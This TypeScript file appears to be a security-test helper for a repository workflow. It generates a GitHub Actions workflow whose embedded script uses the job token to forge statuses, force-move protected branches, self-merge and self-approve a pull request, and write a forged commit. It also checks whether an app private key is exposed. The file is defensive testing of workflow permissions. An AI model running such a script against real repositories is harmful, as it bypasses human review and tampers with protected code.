/**
 * The program in the workflow of an attacker who may push a branch. With the job’s token it tries everything that would
 * complete a case without the officials, and prints each result.
 */
const CODE = `
import { readFileSync } from 'node:fs';
const { GITHUB_API_URL: api, GITHUB_REPOSITORY: repo, TOKEN: token = '', KEY: key = '', VICTIM: victim } = process.env;
const event = JSON.parse(readFileSync(process.env.GITHUB_EVENT_PATH, 'utf8'));
const ask = async (name, method, path, body) => {
  const headers = { authorization: 'token ' + token, 'content-type': 'application/json' };
  const answer = await fetch(api + path, { method, headers, body: body && JSON.stringify(body) });
  const data = await answer.json();
  console.log(name + ': ' + answer.status + (data.errors?.[0]?.type ? ' ' + data.errors[0].type : ''));
  return data;
};
const pull = victim ? await ask('read victim', 'GET', '/repos/' + repo + '/pulls/' + victim) : event.pull_request;
const { number, head } = pull;
console.log('key: ' + (key === '' ? 'none' : 'PWNED ' + key.length));
await ask('status', 'POST', '/repos/' + repo + '/statuses/' + head.sha, { state: 'success', context: 'disposisi' });
await ask('main', 'PATCH', '/repos/' + repo + '/git/refs/heads/main', { sha: head.sha });
await ask('merge', 'PUT', '/repos/' + repo + '/pulls/' + number + '/merge', { sha: head.sha });
await ask('site', 'POST', '/repos/' + repo + '/git/refs', { ref: 'refs/heads/site', sha: head.sha });
await ask('label', 'POST', '/repos/' + repo + '/issues/' + number + '/labels', { labels: ['decap-cms/pending_review'] });
await ask('approve', 'POST', '/repos/' + repo + '/pulls/' + number + '/reviews', { event: 'APPROVE' });
const register = await ask('read register', 'GET', '/repos/' + repo + '/git/ref/heads/register');
await ask('move register', 'PATCH', '/repos/' + repo + '/git/refs/heads/register', { sha: head.sha, force: true });
const input = {
  branch: { repositoryNameWithOwner: repo, branchName: 'register' },
  expectedHeadOid: register.object?.sha ?? head.sha,
  message: { headline: 'forged' },
  fileChanges: { additions: [{ path: 'journals/1.jsonl', contents: 'e30=' }] },
};
const query = 'mutation($input: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $input) { commit { oid } } }';
await ask('write register', 'POST', '/../graphql', { query, variables: { input } });
`;

/** Returns a workflow that attacks, with the event and the permissions that its author chooses. */
export function attackWorkflow(options: {
  readonly on: string;
  readonly permissions: string;
  readonly environment?: string;
  readonly name?: string;
  /** The attacked pull request, by default the one of the attack itself. */
  readonly victim?: number;
}): string {
  return `name: ${options.name ?? 'attack'}
on: ${options.on}
permissions: ${options.permissions}
jobs:
  attack:
    runs-on: ubuntu-latest
${options.environment === undefined ? '' : `    environment: ${options.environment}\n`}    steps:
      - env:
          TOKEN: \${{ github.token }}
          KEY: \${{ secrets.DISPOSISI_APP_KEY }}
          VICTIM: "${options.victim ?? ''}"
          CODE: |
${CODE.split('\n')
  .map((line) => `            ${line}`)
  .join('\n')}
        run: node --input-type=module -e "$CODE"
`;
}

/** An action that replaces the project’s own, and prints that it ran and the length of the key that it got. */
export const ATTACK_ACTION = `console.log('PWNED ' + (process.env['INPUT_PRIVATE-KEY'] ?? '').length);\n`;
